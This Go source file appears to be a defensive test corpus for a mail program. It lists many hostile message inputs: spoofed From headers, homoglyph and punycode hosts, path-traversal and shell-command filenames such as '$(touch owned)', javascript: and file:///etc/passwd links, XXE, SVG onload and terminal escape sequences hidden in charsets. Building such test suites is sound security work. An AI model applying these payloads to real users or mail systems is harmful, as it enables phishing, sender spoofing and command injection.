package main

import (
	"strconv"
	"strings"
)

// attempt is a message that is a trick as a whole. In its template {text} stands
// for a harmless word, which is shown.
type attempt struct {
	name     string
	template string
	shown    []string // besides
}

// from is an attempt to be taken for somebody else. What is shown is the address
// that the mail is from, or what there is of one.
func from(name, fields string, shown ...string) attempt {
	return attempt{name: name, template: fields + "\n" + plainText, shown: shown}
}

// liars pretend to be from somebody else.
var liars = []attempt{
	from("NUL before the real host", "From: =?utf-8?b?Y2VvQGJhbmsuZXhhbXBsZQ==?==?utf-8?Q?=00?=@hostile.example", "@hostile"),
	from("line break before the real host", "From: =?utf-8?b?Y2VvQGJhbmsuZXhhbXBsZQ==?==?utf-8?Q?=0A?=@hostile.example", "@hostile"),
	from("encoded address", "From: =?utf-8?q?ceo=40bank.example?=@hostile.example", "hostile.example"),
	from("encoded pair of brackets", "From: =?utf-8?q?=22CEO=22_=3Cceo=40bank.example=3E?= <m@hostile.example>", "m@hostile.example"),
	from("encoded pair of brackets and a line break", "From: =?utf-8?q?CEO_=3Cceo=40bank.example=3E=0A?= <m@hostile.example>", "m@hostile.example"),
	from("address as name", "From: \"ceo@bank.example\" <m@hostile.example>", "m@hostile.example"),
	from("full-width address as name", "From: \"ceo＠bank.example\" <m@hostile.example>", "m@hostile.example"),
	from("address as name without quotes", "From: ceo@bank.example <m@hostile.example>", "m@hostile.example"),
	from("two fields", "From: CEO <ceo@bank.example>\nFrom: Mallory <m@hostile.example>", "m@hostile.example"),
	from("two addresses", "From: CEO <ceo@bank.example>, Mallory <m@hostile.example>", "m@hostile.example"),
	from("two pairs of brackets", "From: CEO <ceo@bank.example> <m@hostile.example>", "hostile.example"),
	from("quoted local part", "From: \"ceo@bank.example\"@hostile.example", "@hostile.example"),
	from("NUL in the address", "From: <ceo@bank.example\x00@hostile.example>", "hostile.example"),
	from("comment", "From: ceo@bank.example (m@hostile.example)", "ceo@bank.example"),
	from("comment in the address", "From: <ceo(@bank.example,)m@hostile.example>", "hostile.example"),
	from("route", "From: <@bank.example:m@hostile.example>", "hostile.example"),
	from("group", "From: ceo@bank.example: m@hostile.example;", "hostile.example"),
	from("percent route", "From: <ceo%bank.example@hostile.example>", "@hostile.example"),
	from("punycode", "From: Apple <ceo@xn--80ak6aa92e.example>", "xn--80ak6aa92e.example"),
	from("Cyrillic host", "From: Bank <ceo@b\u0430nk.example>", "ceo@"),
	from("zero width in the host", "From: Bank <ceo@ba\u200bnk.example>", "ceo@bank.example"),
	from("name of many spaces", "From: \"CEO"+strings.Repeat(" ", 300)+"\" <m@hostile.example>", "m@hostile.example"),
	from("name of many no-break spaces", "From: \"CEO"+strings.Repeat("\u00a0", 300)+"\" <m@hostile.example>", "m@hostile.example"),
	from("name of many rows", "From: \"CEO "+strings.Repeat("ceo@bank.example ", 500)+"\" <m@hostile.example>", "m@hostile.example"),
	from("name of many lines", "From: =?utf-8?q?CEO"+strings.Repeat("=0D=0A", 20)+"?= <m@hostile.example>", "m@hostile.example"),
	from("name that ends the field", "From: =?utf-8?q?CEO=0D=0ASubject:_owned?= <m@hostile.example>", "m@hostile.example"),
	from("folded name", "From: CEO\n <ceo@bank.example>\n <m@hostile.example>", "hostile.example"),
	from("no address", "From: CEO of the Bank", "CEO of the Bank"),
	from("empty", "From: "),
	from("only brackets", "From: <>"),
	from("Reply-To elsewhere", "From: Grace <grace@navy.example>\nReply-To: grace@hostile.example", "grace@navy.example"),
	from("Sender elsewhere", "From: Grace <grace@navy.example>\nSender: m@hostile.example", "grace@navy.example"),
	from("space before the colon", "From : CEO <ceo@bank.example>\nFrom: Mallory <m@hostile.example>", "m@hostile.example"),
	from("field of the same name in the text", "From: Mallory <m@hostile.example>\n X\nFrom: CEO <ceo@bank.example>", "m@hostile.example"),
	from("a result of its own", "Authentication-Results: home.example; dkim=pass header.d=bank.example; dmarc=pass"),
	from("a tick in the name", "From: \"Bank \u2713 verified\" <m@hostile.example>", "m@hostile.example"),
}

// file is an attempt by the name of a file.
func file(name, value string) attempt {
	return attempt{name: "file " + name, template: withFile(value)}
}

// files have names that are meant for a shell, a path or an eye.
var files = []attempt{
	file("above the folder", `filename="../../../../tmp/owned.txt"`),
	file("above the folder, for Windows", `filename="..\\..\\owned.txt"`),
	file("above the folder, encoded", "filename*=utf-8''%2e%2e%2f%2e%2e%2fowned"),
	file("above the folder, in pieces", `filename*0=".."; filename*1="/owned"`),
	file("absolute", `filename="/etc/owned"`),
	file("of a drive", `filename="C:\\owned.txt"`),
	file("of a user", `filename="~/.ssh/authorized_keys"`),
	file("hidden", `filename=".bashrc"`),
	file("an option", `filename="-rf owned"`),
	file("a long option", `filename="--owned"`),
	file("a folder", `filename="."`),
	file("the folder above", `filename=".."`),
	file("empty", `filename=""`),
	file("only spaces", `filename="   "`),
	file("NUL", "filename=\"owned.txt\x00.jpg\""),
	file("NUL, encoded", "filename*=utf-8''owned.sh%00.jpg"),
	file("very long", `filename="`+strings.Repeat("owned", 100)+`.txt"`),
	file("very long in pieces", longName(300)),
	file("a device", `filename="CON"`),
	file("a device with an extension", `filename="nul.txt"`),
	file("dots and spaces at the end", `filename="owned.txt. . ."`),
	file("backwards", "filename=\"invoice\u202efdp.exe\""),
	file("backwards, encoded", "filename*=utf-8''invoice%E2%80%AEfdp.exe"),
	file("two extensions", `filename="invoice.pdf.exe"`),
	file("spaces before the extension", `filename="invoice.pdf`+strings.Repeat(" ", 120)+`.exe"`),
	file("a command", `filename="$(touch owned)`+"`touch owned`"+`;touch owned|touch owned"`),
	file("a line break", "filename*=utf-8''a%0Aowned"),
	file("a slash that is none", "filename=\"..\u2215owned\u2044x\uff0fy\""),
	file("for the desktop", `filename="owned.desktop"`),
	file("a URL", `filename="file:///etc/passwd"`),
	file("two names", `filename="good.txt"; filename="owned.exe"`),
	{name: "file of another name in its type", template: multipart("Content-Type: application/pdf; name=\"a.pdf\"\nContent-Disposition: attachment; filename=\"../owned.exe\"\n\nMZ\n")},
}

// longName is a name of n pieces.
func longName(n int) string {
	var b strings.Builder
	for i := range n {
		if i > 0 {
			b.WriteString("; ")
		}
		b.WriteString("filename*" + strconv.Itoa(i) + "=x")
	}
	return b.String()
}

// page is an attempt in HTML.
func page(name, s string, shown ...string) attempt {
	return attempt{name: name, template: inHTML(s), shown: shown}
}

// badLinks lead elsewhere than they say, or do more than to lead.
var badLinks = []attempt{
	page("link with a user", `<a href="https://bank.example@hostile.example/">log in</a>`, "log in"),
	page("link with a user and a password", `<a href="https://bank.example:443@hostile.example/">log in</a>`, "log in"),
	page("link by punycode", `<a href="https://xn--bnk-7na.example/">log in</a>`, "log in"),
	page("link in Cyrillic", "<a href=\"https://b\u0430nk.example/\">log in</a>", "log in"),
	page("link of a zero width host", "<a href=\"https://ba\u200bnk.example/\">log in</a>", "log in"),
	page("link of a full-width host", "<a href=\"https://ｂank．example/\">log in</a>", "log in"),
	page("link that says another host", `<a href="https://hostile.example/">https://bank.example/</a>`, "bank.example"),
	page("link to a number", `<a href="http://203.0.113.9/">log in</a>`, "log in"),
	page("link to one number", `<a href="http://3405803785/">log in</a>`, "log in"),
	page("link to a hexadecimal number", `<a href="http://0xcb007109/">log in</a>`, "log in"),
	page("link to IPv6", `<a href="http://[2001:db8::1]/">log in</a>`, "log in"),
	page("link that is a script", `<a href="javascript:alert(1)">log in</a>`, "log in"),
	page("link that is a script in capitals", `<a href=" JaVaScRiPt:alert(1)">log in</a>`, "log in"),
	page("link that is a script with a tab", "<a href=\"java\tscript:alert(1)\">log in</a>", "log in"),
	page("link that is a script with line breaks", "<a href=\"java&#10;script&#13;:alert(1)\">log in</a>", "log in"),
	page("link that is a script behind a control", "<a href=\"&#1;javascript:alert(1)\">log in</a>", "log in"),
	page("link that is a script in Basic", `<a href="vbscript:x">log in</a>`, "log in"),
	page("link to data", `<a href="data:text/html,<script>owned</script>">log in</a>`, "log in"),
	page("link to a file", `<a href="file:///etc/passwd">log in</a>`, "log in"),
	page("link to a share", `<a href="\\hostile.example\share">log in</a>`, "log in"),
	page("link to a program", `<a href="ms-msdt:/id x">log in</a>`, "log in"),
	page("link to a shell", `<a href="ssh://-oProxyCommand=owned/">log in</a>`, "log in"),
	page("link that is an option", `<a href="--owned">log in</a>`, "log in"),
	page("link with a backslash", `<a href="https://hostile.example\@bank.example/">log in</a>`, "log in"),
	page("link without slashes", `<a href="https:hostile.example">log in</a>`, "log in"),
	page("link with three slashes", `<a href="https:///hostile.example">log in</a>`, "log in"),
	page("link without a scheme", `<a href="//hostile.example/">log in</a>`, "log in"),
	page("link below a base", `<base href="javascript:owned//"><a href="x">log in</a>`, "log in"),
	page("very long link", `<a href="https://hostile.example/`+strings.Repeat("owned", 2000)+`">log in</a>`, "log in"),
	page("link in a link", `<a href="https://a.example"><table><tr><td><a href="https://hostile.example/">log in</a></table></a>`, "log in"),
	page("link in a map", `<map name=m><area href="https://hostile.example/"></map>log in`, "log in"),
	page("button of a form", `<form action="https://hostile.example/"><input name=p type=password><button>log in</button></form>`, "log in"),
	page("mail with an attachment", `<a href="mailto:m@hostile.example?attach=/etc/passwd">log in</a>`, "log in"),
	page("mail with a blind copy", `<a href="mailto:a@b.example?bcc=m@hostile.example&amp;from=x">log in</a>`, "log in"),
	page("mail with a line break", `<a href="mailto:m@hostile.example?subject=x%0D%0ABcc:%20m@hostile.example">log in</a>`, "log in"),
	page("mail with NUL", `<a href="mailto:m@hostile.example%00">log in</a>`, "log in"),
	page("mail to an option", `<a href="mailto:-oQ/tmp@hostile.example">log in</a>`, "log in"),
	{name: "address in text with a user", template: textType + "\n{text} https://bank.example@hostile.example/\n", shown: []string{"hostile.example"}},
	{name: "address in text behind brackets", template: textType + "\n{text} <https://bank.example\n.hostile.example/>\n", shown: []string{"bank.example"}},
}

// coded is an attempt in text of a charset and an encoding.
func coded(name, charset, encoding, body string) attempt {
	return attempt{
		name:     "charset: " + name,
		template: multipart("Content-Type: text/plain; charset=" + charset + "\nContent-Transfer-Encoding: " + encoding + "\n\n" + body + "\n"),
	}
}

// charsets hide escape sequences in what a charset or an encoding makes of
// bytes.
var charsets = []attempt{
	coded("UTF-7", "utf-7", "7bit", "+ABs-]0;owned+AAc- +ADw-script+AD4-"),
	coded("UTF-7 by another name", "unicode-1-1-utf-7", "7bit", "+ABsAWwAyAEo-"),
	coded("UTF-7 for IMAP", "utf-7-imap", "7bit", "&ABsAWwAyAEo-"),
	coded("UTF-16", "utf-16", "base64", "/v8AGwBdADAAOwBvAHcAbgBlAGQABw=="),
	coded("UTF-16, the other way", "utf-16le", "base64", "GwBdADAAOwBvAHcAbgBlAGQABwA="),
	coded("UTF-16, half a pair", "utf-16be", "base64", "2D3YPQAb2AA="),
	coded("UTF-32", "utf-32", "base64", "AAD+/wAAABsAAABdAAAAMAAAADsAAAAH"),
	coded("ISO-2022-JP", "iso-2022-jp", "7bit", "\x1b$B$3\x1b(B \x1b[2J \x1b]0;owned\a"),
	coded("ISO-2022-JP, bad escape", "iso-2022-jp", "7bit", "\x1b$)owned\x1b(Z \x1bc"),
	coded("ISO-2022-KR", "iso-2022-kr", "7bit", "\x1b$)C\x0e0!\x0f \x1b[2J"),
	coded("ISO-2022-CN", "iso-2022-cn", "7bit", "\x1b$)A\x0eJ\x0f \x1b[2J"),
	coded("HZ", "hz-gb-2312", "7bit", "~{\x1b[2J~} ~\x1b]0;owned\a"),
	coded("Latin 1 with C1", "iso-8859-1", "8bit", "\x9b2J \x9d0;owned\x9c"),
	coded("Latin 9 with C1", "iso-8859-15", "8bit", "\x9b2J \x9d0;owned\x9c"),
	coded("Cyrillic with C1", "iso-8859-5", "8bit", "\x9b2J \x9d0;owned\x9c"),
	coded("Shift JIS", "shift_jis", "8bit", "\x82\x1b[2J \x81\x9b \x1b]0;owned\a"),
	coded("Big5", "big5", "8bit", "\xa1\x1b[2J"),
	coded("GB 18030", "gb18030", "8bit", "\x81\x30\x81\x1b[2J"),
	coded("EUC-KR", "euc-kr", "8bit", "\xb0\x1b[2J"),
	coded("EBCDIC", "ibm037", "base64", "J60wrQ=="),
	coded("user defined", "x-user-defined", "8bit", "\x9b2J \x1b[2J"),
	coded("none", "none", "8bit", "\x9b2J \x1b[2J"),
	coded("broken UTF-8", "utf-8", "8bit", "\xc0\x9b2J \xe0\x80\x9b2J \xff\x1b[2J"),
	coded("broken base64", "utf-8", "base64", "G10wO29\x1b]0;owned\a3bmVkBw==="),
	coded("broken quoted-printable", "utf-8", "quoted-printable", "=1B]0;owned=07 =1=B[2J =\x1b[2J ="),
	coded("uuencode", "utf-8", "x-uuencode", "begin 644 ../owned\n\x1b[2J\n#&UTP\n`\nend"),
	coded("uuencode in text", "utf-8", "7bit", "begin 644 ../../owned\n#&UTP\n`\nend"),
	coded("yEnc", "utf-8", "x-yenc", "=ybegin line=128 size=3 name=../owned\n\x1b[2J\n=yend size=3"),
	coded("binary", "utf-8", "binary", "\x1b[2J\r\x1b]0;owned\a"),
	coded("gzip", "utf-8", "x-gzip64", "H4sIAAAAAAAA"),
}

// requests ask a mail program to do something.
var requests = []attempt{
	from("receipt to somebody", "Disposition-Notification-To: m@hostile.example\nReturn-Receipt-To: m@hostile.example\nX-Confirm-Reading-To: m@hostile.example"),
	from("unsubscribing at once", "List-Unsubscribe: <{trap}unsubscribe>\nList-Unsubscribe-Post: List-Unsubscribe=One-Click"),
	from("unsubscribing by a script", "List-Unsubscribe: <javascript:owned>, <file:///etc/passwd>, <data:,owned>"),
	from("unsubscribing with a line break", "List-Unsubscribe: <mailto:m@hostile.example?subject=x%0D%0ABcc:m@hostile.example>"),
	from("picture of the sender", "Face: b3duZWQ=\nX-Face: owned\nX-Image-URL: {trap}face\nBIMI-Location: v=BIMI1; l={trap}bimi"),
	{name: "body elsewhere", template: multipart("Content-Type: message/external-body; access-type=URL; URL=\"{trap}body\"\n\nContent-Type: text/plain\n\n")},
	{name: "body in a file", template: multipart("Content-Type: message/external-body; access-type=local-file; name=\"/etc/passwd\"\n\nContent-Type: text/plain\n\n")},
	{name: "invitation from elsewhere", template: multipart("Content-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:1\n" +
		"SUMMARY:x\nATTACH:{trap}attach\nURL:{trap}url\nDTSTART:20261201T100000Z\nBEGIN:VALARM\nACTION:PROCEDURE\nATTACH:file:///bin/sh\nEND:VALARM\n" +
		"END:VEVENT\nEND:VCALENDAR\n")},
	{name: "card with a picture elsewhere", template: multipart("Content-Type: text/vcard\n\nBEGIN:VCARD\nPHOTO;VALUE=uri:{trap}photo\nEND:VCARD\n")},
	{name: "enriched text", template: multipart("Content-Type: text/enriched\n\n<x-tad-bigger>\x1b[2J</x-tad-bigger>\n")},
	{name: "rich text", template: multipart("Content-Type: text/rtf\n\n{\\rtf1\\field{\\*\\fldinst INCLUDEPICTURE {trap}rtf}}\n")},
	{name: "XML with entities", template: multipart("Content-Type: text/xml\n\n<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>\n")},
	{name: "SVG", template: multipart("Content-Type: image/svg+xml; name=x.svg\nContent-Disposition: inline\n\n<svg onload=\"owned\"><image href=\"{trap}svg\"/></svg>\n")},
	{name: "signature elsewhere", template: "Content-Type: multipart/signed; boundary=b; protocol=\"application/pgp-signature\"\n\n--b\n" + textType +
		"\n{text}\n--b\nContent-Type: application/pgp-signature\n\n-----BEGIN PGP SIGNATURE-----\nowned\n--b--\n"},
	{name: "form elsewhere in plain text", template: "Content-Type: text/plain\n\n<html><body>{text}<img src='{trap}plain'></body></html>\n"},
}
